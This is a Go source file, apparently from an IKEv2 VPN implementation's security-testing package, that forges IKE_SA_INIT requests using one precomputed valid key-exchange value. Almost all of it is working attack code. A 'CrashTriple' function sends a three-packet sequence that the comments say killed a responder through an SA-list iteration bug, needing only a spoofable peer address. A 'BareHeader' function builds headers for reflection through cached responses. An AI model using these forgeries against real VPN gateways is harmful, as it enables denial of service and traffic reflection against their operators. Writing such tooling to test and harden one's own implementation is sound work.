package ikeattack

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"

	"github.com/gresec/gresec/ike"
)

// Forger builds IKEv2 requests as an initiator at From would send them to
// a responder at To, without doing any secret work per request: every
// forged KE carries the same valid public value, made once.
type Forger struct {
	From, To  netip.AddrPort
	Proposals []ike.Proposal
	Group     ike.DHGroup // the first DH group of Proposals
	public    []byte
	rnd       *rand.ChaCha8
}

// NewForger makes a Forger proposing proposals (in the ike package's
// syntax, e.g. "aes256gcm16-prfsha384-ecp384"); seed makes its SPIs and
// nonces reproducible.
func NewForger(from, to netip.AddrPort, proposals string, seed uint64) (*Forger, error) {
	ps, err := ike.ParseProposals(ike.ProtoIKE, proposals)
	if err != nil {
		return nil, err
	}
	groups := ike.DHGroups(ps)
	if len(groups) == 0 {
		return nil, fmt.Errorf("ikeattack: no DH group in %q", proposals)
	}
	f := &Forger{From: from, To: to, Proposals: ps, Group: groups[0], rnd: rand.NewChaCha8(seedBytes(seed))}
	dh, err := ike.GenerateDH(f.Group, f.rnd)
	if err != nil {
		return nil, err
	}
	f.public = dh.Public()
	return f, nil
}

func seedBytes(seed uint64) [32]byte {
	var s [32]byte
	binary.BigEndian.PutUint64(s[:], seed)
	copy(s[8:], "gresec ikeattack")
	return s
}

// ValidKE is a KE payload with a valid public value of the Forger's group.
func (f *Forger) ValidKE() *ike.KE { return &ike.KE{Group: uint16(f.Group), Data: f.public} }

// SPI is a fresh non-zero initiator SPI.
func (f *Forger) SPI() uint64 {
	for {
		if v := f.rnd.Uint64(); v != 0 {
			return v
		}
	}
}

// Nonce is a fresh 32-byte nonce.
func (f *Forger) Nonce() []byte {
	b := make([]byte, 32)
	f.rnd.Read(b)
	return b
}

// Init is an IKE_SA_INIT request with SPIi spi: the COOKIE notify first
// if cookie is not nil (§2.6), then SA, KE, Ni and the NAT detection
// notifies, as gresec and strongSwan send it.
func (f *Forger) Init(spi uint64, nonce []byte, ke *ike.KE, cookie []byte) []byte {
	var ps ike.Payloads
	if cookie != nil {
		ps = append(ps, &ike.Notify{Kind: ike.COOKIE, Data: cookie})
	}
	ps = append(ps, &ike.SA{Proposals: f.Proposals}, ke, &ike.Nonce{Data: nonce},
		&ike.Notify{Kind: ike.NAT_DETECTION_SOURCE_IP, Data: ike.NATHash(spi, 0, f.From)},
		&ike.Notify{Kind: ike.NAT_DETECTION_DESTINATION_IP, Data: ike.NATHash(spi, 0, f.To)})
	return mustEncode(&ike.Message{SPIi: spi, Exchange: ike.IKE_SA_INIT, Flags: ike.FlagInitiator, Payloads: ps})
}

// CrashTriple is the three-packet sequence that killed the responder: an
// IKE_SA_INIT with SPIi S, one with T, then S again with another nonce
// (the responder removed S from its SA list while ranging over it). All
// three are valid requests from the configured peer's address; the
// attacker never needs to see a reply.
func (f *Forger) CrashTriple() [3][]byte {
	s, t := f.SPI(), f.SPI()
	ke := f.ValidKE()
	return [3][]byte{f.Init(s, f.Nonce(), ke, nil), f.Init(t, f.Nonce(), ke, nil), f.Init(s, f.Nonce(), ke, nil)}
}

// BareHeader is a 28-byte IKE header and nothing else: what a reflector
// needs to make a responder resend a cached response if it matches
// requests on the header alone.
func BareHeader(spiI, spiR uint64, exch ike.ExchangeType, flags ike.Flags, msgID uint32) []byte {
	h := ike.Header(make([]byte, ike.HeaderLen))
	h.SetSPIi(spiI)
	h.SetSPIr(spiR)
	h.SetVersion(ike.Version2)
	h.SetExchange(exch)
	h.SetFlags(flags)
	h.SetMessageID(msgID)
	h.SetLength(ike.HeaderLen)
	return h
}

func mustEncode(m *ike.Message) []byte {
	b, err := m.Encode()
	if err != nil {
		panic("ikeattack: forged message does not encode: " + err.Error())
	}
	return b
}
